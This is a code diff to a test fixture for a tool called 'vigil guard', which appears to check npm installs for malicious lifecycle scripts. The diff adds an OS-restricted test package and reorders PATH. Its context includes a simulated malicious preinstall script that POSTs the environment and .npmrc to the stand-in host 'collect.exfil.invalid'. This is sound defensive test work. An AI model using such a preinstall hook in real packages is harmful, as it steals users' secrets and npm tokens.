@@ -1,7 +1,8 @@
 /**
  * The world `vigil guard` tests run in: a local registry on 127.0.0.1 with a clean package, a
  * package whose preinstall steals the environment and .npmrc (sent to an `.invalid` host; it also
- * writes a marker file if it ever runs), and a package with a harmless install script. Package
+ * writes a marker file if it ever runs), a package with a harmless install script, and one that
+ * installs only on another operating system. Package
  * managers get an empty temporary HOME, cache and user config, so nothing touches the network or
  * the user's files.
  */
@@ -25,6 +26,9 @@ const EXFIL = [
   "if (process.env.GUARD_TEST_MARKER) fs.writeFileSync(process.env.GUARD_TEST_MARKER, 'ran');",
   "const req = https.request({ hostname: 'collect.exfil.invalid', method: 'POST', path: '/k' }); req.on('error', () => {}); req.end(body);",
 ].join('\n');
+
+/** An operating system npm's platform check rejects here. */
+export const OTHER_OS = process.platform === 'aix' ? 'sunos' : 'aix';
 
 export interface GuardWorld {
   reg: RegistryServer;
@@ -61,6 +65,8 @@ export async function startGuardWorld(): Promise<GuardWorld> {
     files: { 'setup.js': "console.log('scripted-pkg configured');\n" },
   });
   await publish(reg, { name: 'flaky-pkg', version: '1.0.0' });
+  // Installs only on an operating system this machine is not (as fsevents does off macOS).
+  await publish(reg, { name: 'other-os-pkg', version: '1.0.0', os: [OTHER_OS] });
   const marker = join(tmp, 'PWNED');
   const env: NodeJS.ProcessEnv = {
     ...process.env,
@@ -69,8 +75,9 @@ export async function startGuardWorld(): Promise<GuardWorld> {
     HOME: tmp,
     XDG_CACHE_HOME: join(tmp, 'xdg-cache'),
     XDG_DATA_HOME: join(tmp, 'xdg-data'),
-    // The repository's dev tools (pnpm, yarn when installed as devDependencies) after the system's.
-    PATH: `${process.env.PATH ?? ''}${delimiter}${join(ROOT, 'node_modules', '.bin')}`,
+    // The repository's pinned package managers (pnpm 9 and Yarn 4 are devDependencies) before the
+    // system's, so CI and every machine run the same majors; npm itself comes from the system.
+    PATH: `${join(ROOT, 'node_modules', '.bin')}${delimiter}${process.env.PATH ?? ''}`,
     npm_config_userconfig: join(tmp, 'no-user.npmrc'),
     npm_config_cache: join(tmp, 'npm-cache'),
     npm_config_store_dir: join(tmp, 'pnpm-store'),
